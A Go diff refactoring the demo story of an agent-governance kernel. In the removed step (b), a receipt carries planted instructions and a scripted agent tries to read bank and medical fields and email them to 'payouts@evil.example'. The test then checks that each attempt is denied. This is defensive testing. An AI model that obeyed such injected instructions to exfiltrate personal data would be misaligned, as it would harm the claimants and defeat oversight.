@@ -2,118 +2,66 @@ package demo
 
 import (
 	"context"
-	_ "embed"
 	"errors"
 	"fmt"
 	"io"
+	"os"
 	"os/exec"
 	"strings"
 	"time"
 
-	"github.com/ambitkernel/ambit/adapters/claims"
-	"github.com/ambitkernel/ambit/e2e/cluster"
 	"github.com/ambitkernel/ambit/kernel/contract"
-	actionv1 "github.com/ambitkernel/ambit/proto/gen/ambit/action/v1"
 	agentv1 "github.com/ambitkernel/ambit/proto/gen/ambit/agent/v1"
 	contractv1 "github.com/ambitkernel/ambit/proto/gen/ambit/contract/v1"
-	evidencev1 "github.com/ambitkernel/ambit/proto/gen/ambit/evidence/v1"
 	kernelv1 "github.com/ambitkernel/ambit/proto/gen/ambit/kernel/v1"
 	ledgerv1 "github.com/ambitkernel/ambit/proto/gen/ambit/ledger/v1"
 	receiptv1 "github.com/ambitkernel/ambit/proto/gen/ambit/receipt/v1"
-	verifierv1 "github.com/ambitkernel/ambit/proto/gen/ambit/verifier/v1"
-	"github.com/ambitkernel/ambit/sdk/money"
-	"google.golang.org/grpc/codes"
+	"github.com/ambitkernel/ambit/sdk/client"
+	"github.com/ambitkernel/ambit/sdk/devstack"
 	"google.golang.org/grpc/status"
-	"google.golang.org/protobuf/proto"
 	"google.golang.org/protobuf/types/known/timestamppb"
 )
 
-//go:embed expense-refund.yaml
-var contractTemplate []byte
+// The two examples the demo tells, by their folder names.
+const (
+	ExpenseRefund = "expense-refund"
+	Supportdesk   = "supportdesk"
+)
 
-// ClaimFields are the five fields the refund task needs from a claim.
-var ClaimFields = []string{"claim_id", "claimant_id", "receipt_total", "receipt_date", "cost_centre"}
-
-// Seed creates the demo's claims and receipts.
-func Seed(ctx context.Context, claimsDB, receiptsDB string) error {
-	for _, path := range []string{claimsDB, receiptsDB} {
-		db, err := claims.Open(path)
-		if err != nil {
-			return err
-		}
-		err = claims.Migrate(ctx, db)
-		if err == nil {
-			err = claims.Seed(ctx, db, claims.DemoData())
-		}
-		db.Close()
-		if err != nil {
-			return err
-		}
-	}
-	return nil
-}
-
-// Clients are the gRPC clients the story uses.
-type Clients struct {
-	Agent      agentv1.AgentServiceClient
-	Evidence   evidencev1.EvidenceServiceClient
-	Action     actionv1.ActionServiceClient
-	Verifier   verifierv1.VerifierServiceClient
-	Governance kernelv1.GovernanceServiceClient // as policy-owner
-}
-
-// Connect opens the clients: the agent's to the agent listener and the
-// three adapters, the policy owner's to the governance listener.
-func Connect(ctx context.Context, c *cluster.Cluster) (*Clients, error) {
-	agent, err := c.Conn(ctx, c.KernelAgent, "agent")
+// Contract reads an example's contract template and binds it to one task
+// and record, valid for four hours from now.
+func Contract(e *devstack.Example, task, recordKey string, now time.Time) (*contractv1.Contract, error) {
+	path := e.Path(e.Files.Contract)
+	data, err := os.ReadFile(path)
 	if err != nil {
 		return nil, err
 	}
-	ev, err := c.Conn(ctx, c.EvidenceAddr, "agent")
+	c, err := contract.Parse(path, data)
 	if err != nil {
 		return nil, err
 	}
-	act, err := c.Conn(ctx, c.ActionAddr, "agent")
-	if err != nil {
-		return nil, err
+	if c.GetBinding().GetRecord() == nil {
+		return nil, fmt.Errorf("%s: the template binds no record", path)
 	}
-	ver, err := c.Conn(ctx, c.VerifierAddr, "agent")
-	if err != nil {
-		return nil, err
-	}
-	gov, err := c.Conn(ctx, c.KernelGovernance, "policy-owner")
-	if err != nil {
-		return nil, err
-	}
-	return &Clients{
-		Agent:      agentv1.NewAgentServiceClient(agent),
-		Evidence:   evidencev1.NewEvidenceServiceClient(ev),
-		Action:     actionv1.NewActionServiceClient(act),
-		Verifier:   verifierv1.NewVerifierServiceClient(ver),
-		Governance: kernelv1.NewGovernanceServiceClient(gov),
-	}, nil
-}
-
-// RefundContract is the demo contract for one claim's refund task, valid
-// for four hours from now.
-func RefundContract(taskID, claimID string, now time.Time) (*contractv1.Contract, error) {
-	c, err := contract.Parse("expense-refund.yaml", contractTemplate)
-	if err != nil {
-		return nil, err
-	}
-	c.Binding.TaskId = taskID
-	c.Binding.Record.Key = claimID
+	c.Binding.TaskId = task
+	c.Binding.Record.Key = recordKey
 	c.Binding.ValidUntil = timestamppb.New(now.Add(4 * time.Hour))
 	return c, nil
 }
 
+// ProvenanceRef is where a reviewer finds the contract an item carries:
+// the example's file in the policy repository, at the contract's version.
+func ProvenanceRef(e *devstack.Example, c *contractv1.Contract) string {
+	return "policy-repo:examples/" + e.Name + "/" + e.Files.Contract + "@v" + c.GetVersion()
+}
+
 // ContractItem is a contract as a policy owner proposes it to the ledger.
-func ContractItem(id string, c *contractv1.Contract) *ledgerv1.CanonItem {
+func ContractItem(id, provenanceRef string, c *contractv1.Contract) *ledgerv1.CanonItem {
 	return &ledgerv1.CanonItem{
 		CanonItemId:    id,
 		SourceOrigin:   ledgerv1.SourceOrigin_SOURCE_ORIGIN_POLICY,
 		AuthorityLevel: ledgerv1.AuthorityLevel_AUTHORITY_LEVEL_OWNER,
-		ProvenanceRef:  "policy:expense-refund/v1 (e2e/demo/expense-refund.yaml)",
+		ProvenanceRef:  provenanceRef,
 		Scope:          ledgerv1.Scope_SCOPE_TASK,
 		Lifetime:       ledgerv1.Lifetime_LIFETIME_TASK,
 		PromotionState: ledgerv1.PromotionState_PROMOTION_STATE_PROPOSED,
@@ -123,53 +71,68 @@ func ContractItem(id string, c *contractv1.Contract) *ledgerv1.CanonItem {
 	}
 }
 
-// BindRefundTask proposes, promotes and binds a refund contract for one
-// claim, valid for four hours from now.
-func BindRefundTask(ctx context.Context, gov kernelv1.GovernanceServiceClient, taskID, claimID string, now time.Time) (*ledgerv1.ClassifiedItem, error) {
-	c, err := RefundContract(taskID, claimID, now)
+// Bind proposes an example's contract for one task and record as item
+// "ctr-<task>", promotes it and binds the task to agent. gov must act as
+// an identity with promotion authority.
+func Bind(ctx context.Context, gov kernelv1.GovernanceServiceClient, e *devstack.Example, task, recordKey, agent string, now time.Time) (*ledgerv1.ClassifiedItem, error) {
+	c, err := Contract(e, task, recordKey, now)
 	if err != nil {
 		return nil, err
 	}
-	id := "ctr-" + taskID
-	if _, err := gov.ProposeItem(ctx, &kernelv1.ProposeItemRequest{Item: ContractItem(id, c)}); err != nil {
-		return nil, fmt.Errorf("propose contract for %s: %w", taskID, err)
+	id := "ctr-" + task
+	if _, err := gov.ProposeItem(ctx, &kernelv1.ProposeItemRequest{Item: ContractItem(id, ProvenanceRef(e, c), c)}); err != nil {
+		return nil, fmt.Errorf("propose contract for %s: %w", task, err)
 	}
 	if _, err := gov.PromoteItem(ctx, &kernelv1.PromoteItemRequest{CanonItemId: id}); err != nil {
-		return nil, fmt.Errorf("promote contract for %s: %w", taskID, err)
+		return nil, fmt.Errorf("promote contract for %s: %w", task, err)
 	}
-	resp, err := gov.BindTask(ctx, &kernelv1.BindTaskRequest{TaskId: taskID, ContractItemId: id, Agent: "agent"})
+	resp, err := gov.BindTask(ctx, &kernelv1.BindTaskRequest{TaskId: task, ContractItemId: id, Agent: agent})
 	if err != nil {
-		return nil, fmt.Errorf("bind %s: %w", taskID, err)
+		return nil, fmt.Errorf("bind %s: %w", task, err)
 	}
 	return resp.GetItem(), nil
 }
 
-// Refund builds a typed refund action.
-func Refund(claimID string, minor int64, payee string) *contractv1.Action {
-	return &contractv1.Action{Kind: &contractv1.Action_Refund{Refund: &contractv1.Refund{
-		ClaimId: claimID, Amount: money.New("GBP", minor), PayeeId: payee, ReasonCode: "approved-expense",
-	}}}
-}
-
-// Story is one run of the demo.
+// Story is one run of the demo: a scripted agent through sdk/client.
 type Story struct {
-	C *cluster.Cluster
-	K *Clients
-	// Ambitctl is the path of the ambitctl binary used to approve.
+	Stack *devstack.Stack
+	// Agent works as the stack's first agent.
+	Agent *client.Agent
+	// Gov acts as the policy owner (it binds tasks).
+	Gov kernelv1.GovernanceServiceClient
+	// Ambitctl is the path of the ambitctl binary the approvals are given
+	// with, as a governance identity would.
 	Ambitctl string
 	Out      io.Writer
+
 	failures []string
-	// used is step (a)'s capability, replayed in step (e).
-	used struct {
-		action     *contractv1.Action
-		capability *receiptv1.Envelope
-		key        string
-	}
+	// used is step (a)'s decision, replayed in step (e).
+	used *client.Decision
 }
+
+// NewStory connects the agent and the policy owner to a running stack.
+// Close it when done.
+func NewStory(ctx context.Context, st *devstack.Stack, ambitctl string, out io.Writer) (*Story, error) {
+	agent, err := st.Agent(ctx, st.Agents[0])
+	if err != nil {
+		return nil, err
+	}
+	conn, err := st.Conn(ctx, st.Kernel.Governance, devstack.PolicyOwner)
+	if err != nil {
+		return nil, errors.Join(err, agent.Close())
+	}
+	return &Story{Stack: st, Agent: agent, Gov: kernelv1.NewGovernanceServiceClient(conn), Ambitctl: ambitctl, Out: out}, nil
+}
+
+// Close closes the agent's connections.
+func (s *Story) Close() error { return s.Agent.Close() }
+
+// Failures are the expectations that did not hold.
+func (s *Story) Failures() []string { return s.failures }
 
 func (s *Story) printf(format string, args ...any) { fmt.Fprintf(s.Out, format, args...) }
 
-// expect records a failed expectation and prints it.
+// expect records and prints an expectation.
 func (s *Story) expect(ok bool, format string, args ...any) bool {
 	if ok {
 		s.printf("      ok    "+format+"\n", args...)
@@ -181,58 +144,156 @@ func (s *Story) expect(ok bool, format string, args ...any) bool {
 	return ok
 }
 
-func reasons(d *contractv1.Decision) string {
-	var out []string
-	for _, r := range d.GetReasons() {
-		out = append(out, r.GetCode())
+// step is one step of a story.
+type step struct {
+	name string
+	run  func(context.Context) error
+}
+
+// steps runs each step, an error being one failed expectation.
+func (s *Story) steps(ctx context.Context, steps []step) {
+	for _, st := range steps {
+		s.printf("\n%s\n", st.name)
+		if err := st.run(ctx); err != nil {
+			s.expect(false, "%v", err)
+		}
 	}
-	return strings.Join(out, ", ")
 }
 
-func outcome(d *contractv1.Decision) string {
-	return strings.TrimPrefix(d.GetOutcome().String(), "OUTCOME_")
+// Run tells both stories and returns an error listing every expectation
+// that did not hold.
+func (s *Story) Run(ctx context.Context) error {
+	if err := s.RunRefund(ctx); err != nil {
+		return err
+	}
+	return s.RunSupportdesk(ctx)
 }
 
-func (s *Story) read(ctx context.Context, task, source, key string, fields []string) (*evidencev1.ReadResponse, error) {
-	resp, err := s.K.Evidence.Read(ctx, &evidencev1.ReadRequest{TaskId: task, Source: source, RecordKey: key, Fields: fields})
+func (s *Story) result() error {
+	if len(s.failures) > 0 {
+		return fmt.Errorf("%d expectations failed: %s", len(s.failures), strings.Join(s.failures, "; "))
+	}
+	return nil
+}
+
+func (s *Story) example(name string) (*devstack.Example, error) {
+	e, ok := s.Stack.Example(name)
+	if !ok {
+		return nil, fmt.Errorf("the stack does not run the %s example", name)
+	}
+	return e, nil
+}
+
+// bind binds tasks to an example's contract, each on its record.
+func (s *Story) bind(ctx context.Context, e *devstack.Example, tasks [][2]string) error {
+	for _, t := range tasks {
+		item, err := Bind(ctx, s.Gov, e, t[0], t[1], s.Stack.Agents[0], time.Now())
+		if err != nil {
+			return err
+		}
+		s.printf("bound %s to contract %s on %s (%s, %.12s)\n", t[0], item.GetItem().GetCanonItemId(), t[1],
+			strings.TrimPrefix(item.GetClass().String(), "CANON_CLASS_"), item.GetItem().GetContentHash())
+	}
+	return nil
+}
+
+func (s *Story) read(ctx context.Context, task, purpose, source, key string, fields ...string) (*client.Evidence, error) {
+	ev, err := s.Agent.Read(ctx, task, purpose, source, key, fields...)
 	if err == nil {
-		s.printf("      read  %s %s/%s %v → receipt %s (%s)\n", task, source, key, fields, resp.GetReceipt().GetReceiptId(), resp.GetReceipt().GetStateVersion())
+		q := ""
+		if len(ev.Receipt.GetQuarantined()) > 0 {
+			q = fmt.Sprintf(", quarantined %v", ev.Receipt.GetQuarantined())
+		}
+		s.printf("      read  %s/%s %v → receipt %s (%s, %s%s)\n", source, key, fields, ev.Receipt.GetReceiptId(),
+			ev.Receipt.GetStateVersion(), strings.TrimPrefix(ev.Receipt.GetProvenance().String(), "PROVENANCE_"), q)
 	}
-	return resp, err
+	return ev, err
 }
 
-func (s *Story) propose(ctx context.Context, task string, a *contractv1.Action, approval string, ev ...*receiptv1.Envelope) (*agentv1.SubmitProposalResponse, error) {
-	resp, err := s.K.Agent.SubmitProposal(ctx, &agentv1.SubmitProposalRequest{
-		TaskId: task, Purpose: "expense-refund", Action: a, Evidence: ev, ApprovalId: approval,
-	})
+// refused prints a refusal and says whether it carries the reason.
+func (s *Story) refused(what string, err error, reason string) bool {
+	st := status.Convert(err)
+	s.printf("      %s → %v %s: %s\n", what, st.Code(), client.Reason(err), st.Message())
+	return err != nil && client.Reason(err).String() == "ERROR_REASON_"+reason
+}
+
+func (s *Story) propose(ctx context.Context, p client.Proposal) (*client.Decision, error) {
+	d, err := s.Agent.Propose(ctx, p)
 	if err == nil {
-		s.printf("      propose %s → %s [%s] decision %s\n", contract.ActionType(a), outcome(resp.GetDecision()), reasons(resp.GetDecision()), resp.GetDecisionId())
+		s.printf("      propose %s %s → %s [%s] decision %s\n", p.Tool, args(p.Args), outcome(d), strings.Join(d.Codes(), ", "), d.GetDecisionId())
 	}
-	return resp, err
+	return d, err
 }
 
-// executeAndVerify runs the effect and its readback for an ALLOW.
-func (s *Story) executeAndVerify(ctx context.Context, a *contractv1.Action, d *agentv1.SubmitProposalResponse) (*actionv1.ExecuteResponse, error) {
-	var cap receiptv1.Capability
-	if err := proto.Unmarshal(d.GetCapability().GetPayload(), &cap); err != nil {
-		return nil, err
+func args(a any) string {
+	s := fmt.Sprintf("%v", a)
+	if len(s) > 100 {
+		s = s[:97] + "..."
 	}
-	eff, err := s.K.Action.Execute(ctx, &actionv1.ExecuteRequest{Capability: d.GetCapability(), Action: a, IdempotencyKey: cap.GetIdempotencyKey()})
+	return s
+}
+
+func outcome(d *client.Decision) string {
+	return strings.TrimPrefix(d.GetDecision().GetOutcome().String(), "OUTCOME_")
+}
+
+func has(d *client.Decision, code string) bool {
+	for _, c := range d.Codes() {
+		if c == code {
+			return true
+		}
+	}
+	return false
+}
+
+// executeAndVerify runs an allowed call's effect and its readback.
+func (s *Story) executeAndVerify(ctx context.Context, d *client.Decision) (*client.Outcome, error) {
+	eff, err := s.Agent.Execute(ctx, d)
 	if err != nil {
 		return nil, fmt.Errorf("execute: %w", err)
 	}
-	s.printf("      execute capability %s → effect receipt %s, payment %s\n", cap.GetCapabilityId(), eff.GetReceipt().GetReceiptId(), eff.GetReceipt().GetRecordRef())
-	rb, err := s.K.Verifier.Verify(ctx, &verifierv1.VerifyRequest{Capability: d.GetCapability(), EffectReceipt: eff.GetSignedReceipt()})
+	s.printf("      execute capability → effect receipt %s, record %s\n", eff.GetReceipt().GetReceiptId(), eff.GetReceipt().GetRecordRef())
+	rb, err := s.Agent.Verify(ctx, d, eff)
 	if err != nil {
 		return nil, fmt.Errorf("verify: %w", err)
 	}
-	s.printf("      readback → %s receipt %s %v\n", strings.TrimPrefix(rb.GetReceipt().GetStatus().String(), "READBACK_STATUS_"), rb.GetReceipt().GetReceiptId(), rb.GetReceipt().GetFindings())
-	s.expect(rb.GetReceipt().GetStatus() == receiptv1.ReadbackStatus_READBACK_STATUS_VERIFIED, "readback verified the payment")
-	return eff, nil
+	s.printf("      readback → %s receipt %s %v\n", strings.TrimPrefix(rb.GetReceipt().GetStatus().String(), "READBACK_STATUS_"),
+		rb.GetReceipt().GetReceiptId(), rb.GetReceipt().GetFindings())
+	s.expect(rb.GetReceipt().GetStatus() == receiptv1.ReadbackStatus_READBACK_STATUS_VERIFIED, "the verifier read the effect back: VERIFIED")
+	return &client.Outcome{Decision: d, Effect: eff, Readback: rb}, nil
 }
 
+// allowThenRun expects an ALLOW and runs the effect and its readback.
+func (s *Story) allowThenRun(ctx context.Context, d *client.Decision) (*client.Outcome, error) {
+	if !s.expect(d.Allowed(), "ALLOW with a one-time capability") {
+		return nil, nil
+	}
+	return s.executeAndVerify(ctx, d)
+}
+
+// approve approves with ambitctl as the governance identity.
+func (s *Story) approve(ctx context.Context, id, note string) error {
+	cmd := exec.CommandContext(ctx, s.Ambitctl, "approve", "--kernel", s.Stack.Kernel.Governance, "--pki", s.Stack.PKI,
+		"--as", devstack.Governance, "--note", note, id)
+	out, err := cmd.CombinedOutput()
+	s.printf("      $ ambitctl approve %s\n        %s", id, out)
+	if err != nil {
+		return fmt.Errorf("ambitctl approve: %w", err)
+	}
+	return nil
+}
+
+// reviewThenApprove expects a REVIEW with a pending approval and gives it.
+func (s *Story) reviewThenApprove(ctx context.Context, d *client.Decision, code, note string) (string, error) {
+	if !s.expect(d.Review() && has(d, code) && d.GetApprovalId() != "", "REVIEW (%s) with pending approval %s", code, d.GetApprovalId()) {
+		return "", errors.New("no approval to give")
+	}
+	return d.GetApprovalId(), s.approve(ctx, d.GetApprovalId(), note)
+}
+
+// commitment is the task's latest commitment in the agent's self-view.
 func (s *Story) commitment(ctx context.Context, task string) (*agentv1.Commitment, error) {
-	v, err := s.K.Agent.GetSelfView(ctx, &agentv1.GetSelfViewRequest{TaskId: task, Facts: []string{"commitments"}})
+	v, err := s.Agent.SelfView(ctx, task, "commitments")
 	if err != nil {
 		return nil, err
 	}
@@ -242,203 +303,19 @@ func (s *Story) commitment(ctx context.Context, task string) (*agentv1.Commitmen
 	return v.GetCommitments()[len(v.GetCommitments())-1], nil
 }
 
-func (s *Story) approve(ctx context.Context, id string) error {
-	cmd := exec.CommandContext(ctx, s.Ambitctl, "approve", "--kernel", s.C.KernelGovernance, "--pki", s.C.PKI, "--as", "governance",
-		"--note", "receipt checked by finance", id)
-	out, err := cmd.CombinedOutput()
-	s.printf("      $ ambitctl approve %s\n        %s", id, out)
-	if err != nil {
-		return fmt.Errorf("ambitctl approve: %w", err)
-	}
-	return nil
-}
-
-// Run tells the whole story and returns an error listing every expectation
-// that did not hold.
-func (s *Story) Run(ctx context.Context) error {
-	now := time.Now()
-	for _, t := range []struct{ task, claim string }{
-		{"task-a", claims.DemoClaim1001}, {"task-b", claims.DemoClaim1002},
-		{"task-c", claims.DemoClaim1003}, {"task-d", claims.DemoClaim1004},
-	} {
-		item, err := BindRefundTask(ctx, s.K.Governance, t.task, t.claim, now)
-		if err != nil {
-			return err
+// awaitCommitment polls the agent's self-view until the task's latest
+// commitment has the status, for at most bound.
+func (s *Story) awaitCommitment(ctx context.Context, task string, want agentv1.CommitmentStatus, bound time.Duration) (*agentv1.Commitment, error) {
+	deadline := time.Now().Add(bound)
+	for {
+		c, err := s.commitment(ctx, task)
+		if err != nil || c.GetStatus() == want || time.Now().After(deadline) {
+			return c, err
 		}
-		s.printf("bound %s to contract %s (%s, %s)\n", t.task, item.GetItem().GetCanonItemId(), strings.TrimPrefix(item.GetClass().String(), "CANON_CLASS_"), item.GetItem().GetContentHash()[:12])
-	}
-	steps := []struct {
-		name string
-		run  func(context.Context) error
-	}{
-		{"(a) a GBP 17.40 refund is allowed, executed and verified", s.stepA},
-		{"(b) a receipt with injected instructions cannot widen the task", s.stepB},
-		{"(c) a GBP 74.00 refund needs review, is approved, executed and verified", s.stepC},
-		{"(d) the claim is edited after review: back to review, old capability refused", s.stepD},
-		{"(e) a used capability is replayed and refused", s.stepE},
-		{"(f) a read of medical_notes is refused at read time", s.stepF},
-	}
-	for _, st := range steps {
-		s.printf("\n%s\n", st.name)
-		if err := st.run(ctx); err != nil {
-			s.expect(false, "%v", err)
+		select {
+		case <-ctx.Done():
+			return c, ctx.Err()
+		case <-time.After(50 * time.Millisecond):
 		}
 	}
-	if len(s.failures) > 0 {
-		return fmt.Errorf("%d expectations failed: %s", len(s.failures), strings.Join(s.failures, "; "))
-	}
-	return nil
-}
-
-func (s *Story) stepA(ctx context.Context) error {
-	r, err := s.read(ctx, "task-a", "claims_db", claims.DemoClaim1001, ClaimFields)
-	if err != nil {
-		return err
-	}
-	s.expect(r.GetValues()["receipt_total"] == claims.DemoTotal1001, "the agent sees receipt_total %s and only the five granted fields (%d)", r.GetValues()["receipt_total"], len(r.GetValues()))
-	a := Refund(claims.DemoClaim1001, 1740, claims.DemoClaimant)
-	d, err := s.propose(ctx, "task-a", a, "", r.GetSignedReceipt())
-	if err != nil {
-		return err
-	}
-	if !s.expect(d.GetDecision().GetOutcome() == contractv1.Outcome_OUTCOME_ALLOW && d.GetCapability() != nil, "ALLOW with a one-time capability") {
-		return nil
-	}
-	eff, err := s.executeAndVerify(ctx, a, d)
-	if err != nil {
-		return err
-	}
-	c, err := s.commitment(ctx, "task-a")
-	if err != nil {
-		return err
-	}
-	s.expect(c.GetStatus() == agentv1.CommitmentStatus_COMMITMENT_STATUS_VERIFIED, "the agent's self-view shows the commitment %s", c.GetStatus())
-	s.used.action, s.used.capability, s.used.key = a, d.GetCapability(), eff.GetReceipt().GetIdempotencyKey()
-	return nil
-}
-
-func (s *Story) stepB(ctx context.Context) error {
-	claim, err := s.read(ctx, "task-b", "claims_db", claims.DemoClaim1002, ClaimFields)
-	if err != nil {
-		return err
-	}
-	rec, err := s.read(ctx, "task-b", "receipt_upload", claims.DemoReceipt2002, []string{"claim_id", "receipt_total", "receipt_text"})
-	if err != nil {
-		return err
-	}
-	s.printf("      the receipt says: %q\n", rec.GetValues()["receipt_text"])
-	s.expect(rec.GetReceipt().GetProvenance() == contractv1.Provenance_PROVENANCE_INSTRUCTION_BEARING, "the receipt store is marked instruction-bearing")
-	// The agent follows the planted instructions.
-	_, err = s.read(ctx, "task-b", "claims_db", claims.DemoClaim1002, []string{"bank_account", "medical_notes"})
-	s.printf("      read  bank_account, medical_notes → %v\n", status.Code(err))
-	s.expect(status.Code(err) == codes.PermissionDenied && strings.Contains(status.Convert(err).Message(), "bank_account"), "the read of bank_account is refused, naming it")
-	email := &contractv1.Action{Kind: &contractv1.Action_EmailAttachment{EmailAttachment: &contractv1.EmailAttachment{
-		Recipient: "payouts@evil.example", Fields: []string{"bank_account", "medical_notes"},
-	}}}
-	d, err := s.propose(ctx, "task-b", email, "", claim.GetSignedReceipt(), rec.GetSignedReceipt())
-	if err != nil {
-		return err
-	}
-	s.expect(d.GetDecision().GetOutcome() == contractv1.Outcome_OUTCOME_DENY && d.GetCapability() == nil, "the email is denied (%s) and no capability exists", reasons(d.GetDecision()))
-	bc, err := s.K.Agent.RequestBoundaryChange(ctx, &agentv1.RequestBoundaryChangeRequest{TaskId: "task-b", Description: "add email_attachment to external destinations"})
-	if err != nil {
-		return err
-	}
-	s.expect(bc.GetClass() == "CANON_CLASS_PROVISIONAL", "asking to widen the boundary only files governance item %s (%s)", bc.GetItemId(), bc.GetClass())
-	return nil
-}
-
-func (s *Story) stepC(ctx context.Context) error {
-	r, err := s.read(ctx, "task-c", "claims_db", claims.DemoClaim1003, ClaimFields)
-	if err != nil {
-		return err
-	}
-	a := Refund(claims.DemoClaim1003, 7400, claims.DemoClaimant)
-	d, err := s.propose(ctx, "task-c", a, "", r.GetSignedReceipt())
-	if err != nil {
-		return err
-	}
-	if !s.expect(d.GetDecision().GetOutcome() == contractv1.Outcome_OUTCOME_REVIEW && d.GetApprovalId() != "", "REVIEW with pending approval %s", d.GetApprovalId()) {
-		return nil
-	}
-	if err := s.approve(ctx, d.GetApprovalId()); err != nil {
-		return err
-	}
-	d, err = s.propose(ctx, "task-c", a, d.GetApprovalId(), r.GetSignedReceipt())
-	if err != nil {
-		return err
-	}
-	if !s.expect(d.GetDecision().GetOutcome() == contractv1.Outcome_OUTCOME_ALLOW && d.GetCapability() != nil, "with the approval: ALLOW") {
-		return nil
-	}
-	_, err = s.executeAndVerify(ctx, a, d)
-	return err
-}
-
-func (s *Story) stepD(ctx context.Context) error {
-	r, err := s.read(ctx, "task-d", "claims_db", claims.DemoClaim1004, ClaimFields)
-	if err != nil {
-		return err
-	}
-	a := Refund(claims.DemoClaim1004, 6200, claims.DemoClaimant)
-	d, err := s.propose(ctx, "task-d", a, "", r.GetSignedReceipt())
-	if err != nil {
-		return err
-	}
-	if err := s.approve(ctx, d.GetApprovalId()); err != nil {
-		return err
-	}
-	d, err = s.propose(ctx, "task-d", a, d.GetApprovalId(), r.GetSignedReceipt())
-	if err != nil {
-		return err
-	}
-	if !s.expect(d.GetDecision().GetOutcome() == contractv1.Outcome_OUTCOME_ALLOW, "approved: ALLOW with capability") {
-		return nil
-	}
-	// HR corrects the claim in the system of record.
-	db, err := claims.Open(s.C.ClaimsDB)
-	if err != nil {
-		return err
-	}
-	err = claims.EditClaim(ctx, db, claims.DemoClaim1004, "82.00")
-	db.Close()
-	if err != nil {
-		return err
-	}
-	s.printf("      HR edits claim %s: receipt_total 62.00 → 82.00\n", claims.DemoClaim1004)
-	fresh, err := s.read(ctx, "task-d", "claims_db", claims.DemoClaim1004, ClaimFields)
-	if err != nil {
-		return err
-	}
-	s.expect(fresh.GetReceipt().GetStateVersion() == "claims-v43", "the fresh read sees %s", fresh.GetReceipt().GetStateVersion())
-	again, err := s.propose(ctx, "task-d", a, "", r.GetSignedReceipt())
-	if err != nil {
-		return err
-	}
-	s.expect(again.GetDecision().GetOutcome() == contractv1.Outcome_OUTCOME_REVIEW && strings.Contains(reasons(again.GetDecision()), "STATE_VERSION_CHANGED"),
-		"the proposal citing the old evidence goes back to REVIEW (state version changed)")
-	var cap receiptv1.Capability
-	_ = proto.Unmarshal(d.GetCapability().GetPayload(), &cap)
-	_, err = s.K.Action.Execute(ctx, &actionv1.ExecuteRequest{Capability: d.GetCapability(), Action: a, IdempotencyKey: cap.GetIdempotencyKey()})
-	s.printf("      execute old capability %s → %v: %s\n", cap.GetCapabilityId(), status.Code(err), status.Convert(err).Message())
-	s.expect(status.Code(err) == codes.FailedPrecondition, "the old capability is refused")
-	return nil
-}
-
-func (s *Story) stepE(ctx context.Context) error {
-	if s.used.capability == nil {
-		return errors.New("no capability from step (a) to replay")
-	}
-	_, err := s.K.Action.Execute(ctx, &actionv1.ExecuteRequest{Capability: s.used.capability, Action: s.used.action, IdempotencyKey: s.used.key})
-	s.printf("      replay capability from (a) → %v: %s\n", status.Code(err), status.Convert(err).Message())
-	s.expect(status.Code(err) == codes.FailedPrecondition, "the replay is refused")
-	return nil
-}
-
-func (s *Story) stepF(ctx context.Context) error {
-	resp, err := s.read(ctx, "task-a", "claims_db", claims.DemoClaim1001, []string{"claim_id", "medical_notes"})
-	s.printf("      read  medical_notes → %v: %s\n", status.Code(err), status.Convert(err).Message())
-	s.expect(status.Code(err) == codes.PermissionDenied && resp == nil && strings.Contains(status.Convert(err).Message(), "medical_notes"),
-		"refused at read time, naming the field, and nothing returned")
-	return nil
 }
